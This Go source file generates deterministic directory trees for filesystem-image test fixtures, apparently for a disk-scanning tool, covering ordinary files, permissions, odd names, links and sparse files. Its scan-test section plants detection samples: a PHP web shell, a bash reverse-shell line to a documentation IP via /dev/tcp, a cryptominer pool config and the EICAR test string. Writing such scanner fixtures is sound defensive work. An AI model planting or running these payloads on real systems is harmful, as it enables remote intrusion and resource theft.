// Command gentree writes the deterministic source trees that the fixture
// images are made from with mkfs.ext4 -d and mcopy. Every byte, name, mode,
// owner and timestamp is a function of the tree name, so images built on two
// machines hold the same files.
//
//	go run ./testdata/gentree -kind main|second|fat|frag DIR
package main

import (
	"bufio"
	"flag"
	"fmt"
	"log"
	"os"
	"path/filepath"
	"syscall"
	"time"
)

// rng is xorshift64*: fast, deterministic, good enough for file contents.
type rng uint64

func (r *rng) next() uint64 {
	x := uint64(*r)
	x ^= x >> 12
	x ^= x << 25
	x ^= x >> 27
	*r = rng(x)
	return x * 2685821657736338717
}

func seed(s string) rng {
	h := uint64(1469598103934665603)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= 1099511628211
	}
	if h == 0 {
		h = 1
	}
	return rng(h)
}

// base is the fixed epoch of the tree's timestamps (nanoseconds set, so
// nanosecond timestamps are checked).
var base = time.Date(2024, 3, 14, 15, 9, 26, 535897932, time.UTC)

var root string

func must(err error) {
	if err != nil {
		log.Fatal(err)
	}
}

// content makes n bytes for name: text lines, compressible (so compressed
// qcow2 fixtures compress) but unique per line, so a misplaced block shows.
func content(name string, n int64) []byte {
	r := seed(name)
	b := make([]byte, 0, n)
	for line := 0; int64(len(b)) < n; line++ {
		b = fmt.Appendf(b, "%s line %08d %016x the quick brown fox jumps over the lazy dog\n", name, line, r.next())
	}
	return b[:n]
}

func stamp(p string, i int) {
	t := base.Add(time.Duration(i) * 1234567891 * time.Nanosecond)
	must(os.Chtimes(p, t.Add(time.Hour), t))
}

func file(rel string, data []byte, mode os.FileMode, uid, gid, i int) {
	p := filepath.Join(root, rel)
	must(os.MkdirAll(filepath.Dir(p), 0o755))
	must(os.WriteFile(p, data, 0o644))
	must(os.Chmod(p, mode))
	must(os.Lchown(p, uid, gid))
	stamp(p, i)
}

func dir(rel string, mode os.FileMode, uid, gid int) {
	p := filepath.Join(root, rel)
	must(os.MkdirAll(p, 0o755))
	must(os.Chmod(p, mode))
	must(os.Lchown(p, uid, gid))
}

// bigFile streams n bytes of content to rel without holding it in memory.
func bigFile(rel string, n int64, i int) {
	p := filepath.Join(root, rel)
	must(os.MkdirAll(filepath.Dir(p), 0o755))
	f, err := os.Create(p)
	must(err)
	w := bufio.NewWriterSize(f, 1<<20)
	const chunk = 1 << 20
	for off := int64(0); off < n; off += chunk {
		m := min(int64(chunk), n-off)
		_, err := w.Write(content(fmt.Sprintf("%s@%d", rel, off), m))
		must(err)
	}
	must(w.Flush())
	must(f.Close())
	stamp(p, i)
}

// sparseFile writes data regions of blk bytes at every stride-th block,
// leaving holes between them; with many regions the extent tree is deep.
func sparseFile(rel string, regions int, blk, stride int64, tail int64, i int) {
	p := filepath.Join(root, rel)
	must(os.MkdirAll(filepath.Dir(p), 0o755))
	f, err := os.Create(p)
	must(err)
	for k := 0; k < regions; k++ {
		_, err := f.WriteAt(content(fmt.Sprintf("%s#%d", rel, k), blk), int64(k)*stride*blk)
		must(err)
	}
	must(f.Truncate(int64(regions-1)*stride*blk + blk + tail))
	must(f.Close())
	stamp(p, i)
}

func mainTree(big int64) {
	n := 0
	next := func() int { n++; return n }
	// Ordinary system-like files.
	file("etc/hostname", []byte("vmscope-fixture\n"), 0o644, 0, 0, next())
	file("etc/passwd", []byte("root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/sh\n"), 0o644, 0, 0, next())
	file("etc/shadow", []byte("root:*:19000:0:99999:7:::\n"), 0o640, 0, 42, next())
	file("home/alice/notes.txt", content("notes", 5000), 0o600, 1000, 1000, next())
	dir("home/alice", 0o750, 1000, 1000)
	// Nested directories.
	deep := "deep"
	for d := 0; d < 12; d++ {
		deep = filepath.Join(deep, fmt.Sprintf("level%02d", d))
	}
	file(filepath.Join(deep, "leaf.txt"), content("leaf", 777), 0o644, 0, 0, next())
	// Thousands of small files of varied sizes, some empty, some tiny (inline),
	// some spanning several blocks.
	for d := 0; d < 20; d++ {
		for f := 0; f < 120; f++ {
			r := seed(fmt.Sprintf("small%d/%d", d, f))
			var size int64
			switch f % 6 {
			case 0:
				size = 0
			case 1:
				size = int64(r.next() % 56) // fits in i_block: inline
			case 2:
				size = int64(r.next() % 3000)
			default:
				size = int64(r.next() % 40000)
			}
			file(fmt.Sprintf("small/d%02d/f%03d.txt", d, f), content(fmt.Sprintf("s%d/%d", d, f), size), 0o644, 0, 0, next())
		}
	}
	// A big directory (htree after e2fsck -D).
	for f := 0; f < 3000; f++ {
		file(fmt.Sprintf("bigdir/entry-with-a-longish-name-%05d", f), content(fmt.Sprintf("b%d", f), int64(f%97)), 0o644, 0, 0, next())
	}
	// Large file over 100 MiB.
	if big > 0 {
		bigFile("data/big.bin", big, next())
	}
	// Sparse: a few regions, a tail hole.
	sparseFile("data/sparse.bin", 4, 65536, 97, 5<<20, next())
	// Deep extent tree: 1500 single 4 KiB regions with holes between.
	sparseFile("data/holes.bin", 1500, 4096, 2, 0, next())
	// Empty file and empty directory.
	file("data/empty", nil, 0o644, 0, 0, next())
	dir("data/emptydir", 0o755, 0, 0)
	// Permissions and owners.
	file("perm/none", []byte("no permissions\n"), 0, 0, 0, next())
	file("perm/setuid", []byte("#!/bin/sh\necho setuid\n"), 0o4755, 0, 0, next())
	file("perm/setgid", []byte("#!/bin/sh\necho setgid\n"), 0o2755, 0, 0, next())
	file("perm/owned", []byte("owned by 1234:5678\n"), 0o640, 1234, 5678, next())
	file("perm/nobody", []byte("nobody\n"), 0o444, 65534, 65534, next())
	dir("perm/sticky", 0o1777, 0, 0)
	file("perm/sticky/tmpfile", []byte("tmp\n"), 0o666, 1000, 1000, next())
	// Names.
	file("names/with space.txt", []byte("space\n"), 0o644, 0, 0, next())
	file("names/ünïcødé-名前.txt", []byte("unicode\n"), 0o644, 0, 0, next())
	file("names/bad-\xff\xfe-latin1-\xe9.txt", []byte("not utf-8\n"), 0o644, 0, 0, next())
	file("names/"+string(make255('n')), []byte("max name\n"), 0o644, 0, 0, next())
	// Links.
	file("links/target.txt", []byte("hard link target\n"), 0o644, 0, 0, next())
	must(os.Link(filepath.Join(root, "links/target.txt"), filepath.Join(root, "links/hard1")))
	must(os.MkdirAll(filepath.Join(root, "links/sub"), 0o755))
	must(os.Link(filepath.Join(root, "links/target.txt"), filepath.Join(root, "links/sub/hard2")))
	must(os.Symlink("target.txt", filepath.Join(root, "links/short")))
	must(os.Symlink("/"+deep+"/leaf.txt", filepath.Join(root, "links/long")))
	must(os.Symlink("../etc", filepath.Join(root, "links/dirlink")))
	must(os.Symlink("does/not/exist", filepath.Join(root, "links/dangling")))
	// A FIFO.
	must(syscall.Mkfifo(filepath.Join(root, "data/fifo"), 0o600))
}

func make255(c byte) []byte {
	b := make([]byte, 255)
	for i := range b {
		b[i] = c
	}
	return b
}

func secondTree() {
	for i := 0; i < 50; i++ {
		file(fmt.Sprintf("srv/www/page%02d.html", i), content(fmt.Sprintf("page%d", i), int64(100+i*37)), 0o644, 33, 33, i)
	}
	file("srv/db/data.db", content("db", 3<<20), 0o600, 999, 999, 99)
	file("README", []byte("second partition\n"), 0o644, 0, 0, 100)
}

func fatTree() {
	for i := 0; i < 40; i++ {
		file(fmt.Sprintf("EFI/boot/file%02d.txt", i), content(fmt.Sprintf("fat%d", i), int64(10+i*301)), 0o644, 0, 0, i)
	}
	file("EFI/boot/bootx64.efi", content("efi", 300000), 0o644, 0, 0, 50)
	file("long file name here.txt", []byte("vfat long name\n"), 0o644, 0, 0, 51)
}

// fragTree fills a filesystem with files to be deleted alternately, so a
// later debugfs write lands in the gaps (a fragmented file).
func fragTree() {
	for i := 0; i < 2000; i++ {
		file(fmt.Sprintf("fill/%04d", i), content(fmt.Sprintf("fill%d", i), 8192), 0o644, 0, 0, i)
	}
}

// eicar is the EICAR anti-virus test file.
const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

// scanTree plants artefacts for the scan tests among ordinary files: in a
// nested directory, in a sparse file after a hole, in a file larger than a
// scan block, straddling the 4 MiB block boundary, and at the very end of a
// big file. Every planted file also carries a marker string that the test
// rules of testdata/rules match.
func scanTree() {
	n := 0
	next := func() int { n++; return n }
	for d := 0; d < 5; d++ {
		for f := 0; f < 40; f++ {
			file(fmt.Sprintf("usr/share/doc/pkg%d/file%02d.txt", d, f), content(fmt.Sprintf("doc%d/%d", d, f), int64(f*173)), 0o644, 0, 0, next())
		}
	}
	file("etc/hostname", []byte("scan-fixture\n"), 0o644, 0, 0, next())
	file("var/www/html/a/b/c/d/e/shell.php", []byte("<?php @eval(base64_decode($_POST['cmd'])); // VMSCOPE_MARKER_NESTED\n?>\n"), 0o644, 33, 33, next())
	// Sparse: EICAR 50 MiB into the file, after a hole.
	p := filepath.Join(root, "srv/data/sparse.img")
	must(os.MkdirAll(filepath.Dir(p), 0o755))
	f, err := os.Create(p)
	must(err)
	_, err = f.WriteAt([]byte(eicar), 50<<20)
	must(err)
	must(f.Truncate(64 << 20))
	must(f.Close())
	stamp(p, next())
	// Big: 9 MiB of text (the default rules look at files under 10 MB); a
	// reverse shell straddling the 4 MiB boundary,
	// a miner config in the middle, a marker in the last bytes.
	big := content("big-scan", 9<<20)
	straddle := []byte("bash -i >& /dev/tcp/198.51.100.9/8443 0>&1 VMSCOPE_MARKER_STRADDLE")
	copy(big[4<<20-20:], straddle)
	copy(big[7<<20:], []byte(`{"donate-level": 1, "pools": [{"url": "stratum+tcp://pool.example.org:3333", "user": "x"}]} VMSCOPE_MARKER_MIDDLE`))
	end := []byte("VMSCOPE_MARKER_END")
	copy(big[len(big)-len(end):], end)
	file("opt/app/blob.bin", big, 0o644, 0, 0, next())
	file("home/bob/eicar.txt", []byte(eicar), 0o644, 1000, 1000, next())
}

func main() {
	kind := flag.String("kind", "main", "main, small (no 100 MiB file), second, fat, frag or scan")
	flag.Parse()
	if flag.NArg() != 1 {
		log.Fatal("usage: gentree -kind KIND DIR")
	}
	root = flag.Arg(0)
	must(os.RemoveAll(root))
	must(os.MkdirAll(root, 0o755))
	switch *kind {
	case "main":
		mainTree(110 << 20)
	case "small":
		mainTree(0)
	case "second":
		secondTree()
	case "fat":
		fatTree()
	case "frag":
		fragTree()
	case "scan":
		scanTree()
	default:
		log.Fatalf("unknown kind %q", *kind)
	}
	// Directory times last, after their contents were written.
	must(filepath.Walk(root, func(p string, info os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		if info.IsDir() {
			stamp(p, len(p))
		}
		return nil
	}))
}
